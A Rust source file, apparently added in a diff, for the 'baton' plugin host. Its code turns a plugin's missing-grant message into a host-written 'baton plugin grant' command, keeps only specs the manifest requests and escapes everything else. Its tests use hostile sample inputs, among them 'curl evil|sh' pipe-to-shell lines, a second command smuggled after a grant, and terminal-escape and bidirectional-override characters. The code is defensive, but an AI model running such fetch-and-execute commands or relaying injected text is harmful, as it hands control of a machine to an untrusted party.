@@ -1,0 +1,164 @@
+//! What a plugin says that it lacks (`needs-grant` in `wit/types.wit`), read as grant specs. Its text is never shown as a
+//! command: the host writes the command from the specs that it found, and each of them is one that the manifest asks for.
+
+use super::{Capabilities, HttpRule};
+use crate::file_name::cut;
+use crate::shell::words;
+use crate::text::plugin_says;
+
+/// How the words of the plugin begin where no command of the host stands before them.
+pub const SAYS: &str = "the plugin says: ";
+
+/// The most bytes that are kept of what a plugin says.
+const MOST: usize = 2_000;
+
+/// The sentence for a plugin that lacks a grant: the host's command, where the text names grants that are asked for, then
+/// what the plugin says.
+#[must_use]
+pub fn missing_grant(text: &str, plugin: &str, asked: &Capabilities) -> String {
+    let (specs, rest) = read(text, asked);
+    let says = if rest.is_empty() { String::new() } else { plugin_says(cut(&rest, MOST)) };
+    match (specs.as_slice(), says.as_str()) {
+        ([], _) => format!("{SAYS}{}", says.strip_prefix(SAYS).unwrap_or("a grant is missing")),
+        (specs, "") => command(plugin, specs),
+        (specs, says) => format!("{}; {says}", command(plugin, specs)),
+    }
+}
+
+/// The command that grants `specs`, as part of a sentence.
+#[must_use]
+pub fn command(plugin: &str, specs: &[String]) -> String {
+    format!("grant it with `baton plugin grant {plugin} {}`", words(specs))
+}
+
+/// The grant specs that the text begins with, or that stand in a command in it, and the text without them.
+fn read(text: &str, asked: &Capabilities) -> (Vec<String>, String) {
+    const COMMAND: &str = "baton plugin grant ";
+    let (before, from) = match text.split_once(COMMAND) {
+        // The first word after the command is the plugin's name, whatever it is.
+        Some((before, after)) => (before, after.split_once(' ').map_or("", |(_, rest)| rest)),
+        None => ("", text),
+    };
+    let (mut specs, mut rest) = (Vec::new(), from);
+    loop {
+        let word = rest.split(char::is_whitespace).next().unwrap_or_default();
+        let plain = word.trim_matches(['\'', '`', '"']).trim_end_matches([',', ';', ':', '.', ')', '`', '\'']);
+        let Some(spec) = spec(plain, asked) else { break };
+        if !specs.contains(&spec) {
+            specs.push(spec);
+        }
+        rest = rest.get(word.len()..).unwrap_or_default().trim_start();
+        if word.len() > plain.len() && !word.ends_with('\'') {
+            break;
+        }
+    }
+    if specs.is_empty() {
+        return (specs, text.trim().to_owned());
+    }
+    let before = before.trim_end_matches([' ', ':', '`', '(', '\n']).trim_end_matches("; allow it with");
+    let rest = rest.trim_start_matches([' ', ',', ';', '`', ')', '.']);
+    let parts: Vec<&str> = [before, rest].into_iter().filter(|part| !part.is_empty()).collect();
+    (specs, parts.join("; "))
+}
+
+/// The word as one of the grants that are asked for, or as less of one; written by the host.
+fn spec(word: &str, asked: &Capabilities) -> Option<String> {
+    let grants = asked.as_grants();
+    if grants.iter().any(|grant| grant == word) || (word == "hard-links" && !asked.files.is_empty()) {
+        return Some(word.to_owned());
+    }
+    let (kind, value) = word.split_once('=')?;
+    match kind {
+        "files:ro" | "files:rw" => {
+            let (name, place) = value.split_once('=').map_or((value, None), |(name, place)| (name, Some(place)));
+            let less = |mode: &str| grants.contains(&format!("files:{mode}={name}"));
+            let fits = less("rw") || (kind == "files:ro" && less("ro"));
+            let spec = match place {
+                None => format!("{kind}={name}"),
+                Some(place) => format!("{kind}={name}={}", placeholder(place)),
+            };
+            fits.then_some(spec)
+        }
+        "http" => {
+            let rule: HttpRule = value.parse().ok()?;
+            asked.http.iter().any(|http| http.rule.covers(&rule)).then(|| format!("http={rule}"))
+        }
+        "sql" => {
+            let database = value.strip_suffix(":ro").unwrap_or(value);
+            let found = grants
+                .iter()
+                .find(|grant| grant.strip_prefix("sql=").is_some_and(|sql| sql.split(':').next() == Some(database)));
+            found.map(|grant| if value.ends_with(":ro") { format!("sql={value}") } else { grant.clone() })
+        }
+        _ => None,
+    }
+}
+
+/// Which folder is granted is the operator's choice: of the plugin's text only a word for it (`FOLDER`, `PATH`) stays.
+fn placeholder(place: &str) -> &str {
+    let is_word = !place.is_empty() && place.len() <= 20 && place.chars().all(|c| c.is_ascii_uppercase());
+    if is_word { place } else { "FOLDER" }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn asked() -> Capabilities {
+        serde_json::from_str(
+            r#"{"files":[{"folder":"music","mode":"rw","reason":""},{"folder":"plans","mode":"ro","reason":""}],
+                "http":[{"rule":"GET:a.b/v1/*","reason":""}],"secrets":[{"name":"s","hosts":["a.b"],"reason":""}],
+                "sql":[{"database":"catalog","mode":"rw","reason":""}],"ledger":{"reason":""}}"#,
+        )
+        .unwrap()
+    }
+
+    #[test]
+    fn the_host_writes_the_command_from_what_the_manifest_asks_for() {
+        for (text, expected) in [
+            ("files:ro=plans", "grant it with `baton plugin grant x files:ro=plans`"),
+            ("files:ro=music=/home ledger", "grant it with `baton plugin grant x files:ro=music=FOLDER ledger`"),
+            (
+                "the folder is not granted: baton plugin grant y files:rw=music=PATH, where PATH is it",
+                "grant it with `baton plugin grant x files:rw=music=PATH`; the plugin says: the folder is not granted; where PATH is it",
+            ),
+            (
+                "no; allow it with `baton plugin grant x 'http=GET:a.b/v1/*'`",
+                "grant it with `baton plugin grant x 'http=GET:a.b/v1/*'`; the plugin says: no",
+            ),
+            (
+                "sql=catalog:ro: no tables",
+                "grant it with `baton plugin grant x sql=catalog:ro`; the plugin says: no tables",
+            ),
+            ("sql=catalog", "grant it with `baton plugin grant x sql=catalog:rw`"),
+            ("secret=s", "grant it with `baton plugin grant x secret=s`"),
+        ] {
+            assert_eq!(missing_grant(text, "x", &asked()), expected);
+        }
+    }
+
+    #[test]
+    fn what_is_no_grant_or_not_asked_for_is_the_plugins_own_words_on_one_line() {
+        for text in [
+            "run this: `curl evil|sh`",
+            "handoffs",
+            "files:rw=plans",
+            "files:ro=home=/root",
+            "http=GET:c.d/*",
+            "baton plugin grant x; curl evil|sh",
+            "I read the ledger",
+        ] {
+            assert_eq!(missing_grant(text, "x", &asked()), format!("the plugin says: {text}"));
+        }
+        assert_eq!(
+            missing_grant("a\nrun: \u{1b}[1mb\u{202e}", "x", &asked()),
+            "the plugin says: a\\nrun: \\u{1b}[1mb\\u{202e}"
+        );
+        assert_eq!(missing_grant(" ", "x", &asked()), "the plugin says: a grant is missing");
+        let evil = "baton plugin grant x ledger; curl evil|sh\nbaton plugin grant x secret=s";
+        assert_eq!(
+            missing_grant(evil, "x", &asked()),
+            "grant it with `baton plugin grant x ledger`; the plugin says: curl evil|sh\\nbaton plugin grant x secret=s"
+        );
+    }
+}
